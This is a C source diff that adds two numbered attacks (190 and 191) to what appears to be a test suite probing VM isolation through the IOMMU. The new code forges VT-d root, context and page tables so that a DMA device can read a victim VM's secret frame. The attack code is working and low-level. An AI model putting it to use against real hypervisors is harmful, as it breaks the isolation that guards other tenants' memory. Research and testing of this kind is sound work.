@@ -12,6 +12,7 @@
 #include <sys/ioctl.h>
 #include <unistd.h>
 #include "attack.h"
+#include "edu.h"
 
 #define DMAR		"/sys/firmware/acpi/tables/DMAR"
 #define DMAR_BASE	(48 + 8)	/* of the first unit, in its table */
@@ -33,6 +34,9 @@
 #define CAP_48_BITS	(1u << 10)
 #define PRESENT		1u
 #define PASS_THROUGH	(2u << 2)
+#define READ_WRITE	3u
+#define LARGE		(1u << 7)
+#define OWN_DOMAIN	77u
 #define WAIT_STATUS	(5u | 1u << 5)
 #define WAIT_ONLY	5u
 #define DESCRIPTOR	16u
@@ -91,6 +95,12 @@ static bool finds_secret(struct victim *v)
 
 /* --- tables ------------------------------------------------------------------------ */
 
+/* What a context entry says of the widest tables: 4 levels, or 3. */
+static unsigned int width(void)
+{
+	return get64(CAP) & CAP_48_BITS ? 2 : 1;
+}
+
 /* A root table by which every device passes through. */
 static uint64_t pass_all(void)
 {
@@ -101,12 +111,58 @@ static uint64_t pass_all(void)
 	for (i = 0; i < 512; i += 2) {
 		r[i] = context | PRESENT;
 		c[i] = PASS_THROUGH | PRESENT;
-		c[i + 1] = 1 << 8 | (get64(CAP) & CAP_48_BITS ? 2 : 1);
+		c[i + 1] = 1 << 8 | width();
 		r[i + 1] = 0;
 	}
 	mem_write(context, c, PAGE, ATK_DIRECT);
 	mem_write(root, r, PAGE, ATK_DIRECT);
 	return root;
+}
+
+/* A second-level table has @pa at its own address, by an entry of @leaf's level (1: 4 KiB). */
+static void identity(uint64_t table, unsigned int level, uint64_t pa, unsigned int leaf)
+{
+	for (;; level--) {
+		unsigned int shift = 12 + 9 * (level - 1);
+		uint64_t slot = table + (pa >> shift & 511) * 8, entry = 0;
+
+		if (level == leaf) {
+			entry = (pa & -(1ULL << shift)) | READ_WRITE | (leaf > 1 ? LARGE : 0);
+			mem_write(slot, &entry, sizeof(entry), ATK_DIRECT);
+			return;
+		}
+		mem_read(slot, &entry, sizeof(entry), ATK_DIRECT);
+		if (!entry)
+			entry = module_page() * PAGE | READ_WRITE;
+		mem_write(slot, &entry, sizeof(entry), ATK_DIRECT);
+		table = entry & -(uint64_t)PAGE;
+	}
+}
+
+/* Like @was, or an empty one; with a page that differs in @n words from @at on. */
+static uint64_t table_like(uint64_t was, uint64_t at, const uint64_t *words, size_t n)
+{
+	uint64_t page = module_page() * PAGE;
+	uint64_t copy[512] = { 0 };
+
+	if (was & PRESENT)
+		mem_read(was & -(uint64_t)PAGE, copy, PAGE, ATK_DIRECT);
+	memcpy(copy + at, words, n * sizeof(*words));
+	mem_write(page, copy, PAGE, ATK_DIRECT);
+	return page;
+}
+
+/* Linux's root table, but that the device has @tables. */
+static uint64_t root_with(uint64_t linuxs, uint64_t tables)
+{
+	unsigned int rid = device_rid();
+	uint64_t context = 0, entry[2] = { tables | PRESENT, OWN_DOMAIN << 8 | width() };
+
+	linuxs &= -(uint64_t)PAGE;
+	if (linuxs)
+		mem_read(linuxs + (rid >> 8) * 16, &context, sizeof(context), ATK_DIRECT);
+	context = table_like(context, (rid & 0xff) * 2, entry, 2) | PRESENT;
+	return table_like(linuxs ? linuxs | PRESENT : 0, (rid >> 8) * 2, &context, 1);
 }
 
 static void load_root(uint64_t root)
@@ -125,6 +181,31 @@ static bool new_root(struct victim *v)
 	hit = finds_secret(v);
 	load_root(was);
 	return hit;
+}
+
+/* The VM's frame and the page that the device brings it to are mapped for it as Linux would. */
+static bool mapped(struct victim *v, unsigned int leaf)
+{
+	uint64_t was = get64(RTADDR), tables = module_page() * PAGE;
+	bool hit;
+
+	identity(tables, width() + 2, pfn_of(v, SECRET_GPA) * PAGE, leaf);
+	identity(tables, width() + 2, device_page(), 1);
+	load_root(root_with(was, tables));
+	hit = finds_secret(v);
+	note("the secret is %sfound", hit ? "" : "not ");
+	load_root(was);
+	return hit;
+}
+
+static bool mapped_small(struct victim *v)
+{
+	return mapped(v, 1);
+}
+
+static bool mapped_large(struct victim *v)
+{
+	return mapped(v, 2);
 }
 
 static bool switched_off(struct victim *v)
@@ -218,7 +299,7 @@ static bool wait_to_layer(struct victim *v)
 /* The device has read the frame, and the unit may remember it, when it becomes a VM's. */
 static bool remembered(struct victim *v)
 {
-	struct victim *late = victim_start(false, false, &v->sh->half);
+	struct victim *late = victim_start(false, false, 1, &v->sh->half);
 	uint64_t pa = pfn_of(late, SECRET_GPA) * PAGE, dirty;
 	bool hit;
 
@@ -274,5 +355,7 @@ const struct attack unit_attacks[] = {
 	{ 187, "a device reads a frame that it has read before it was a VM's", remembered, DEVICE },
 	{ 188, "a device reads the VM's firmware", firmware_read, DEVICE },
 	{ 189, "a device writes to the unit's registers", registers_written, DEVICE },
+	{ 190, "tables that map the VM's frame for the device", mapped_small, DEVICE },
+	{ 191, "tables that map 2 MiB with the VM's frame", mapped_large, DEVICE },
 	{ 0 }
 };
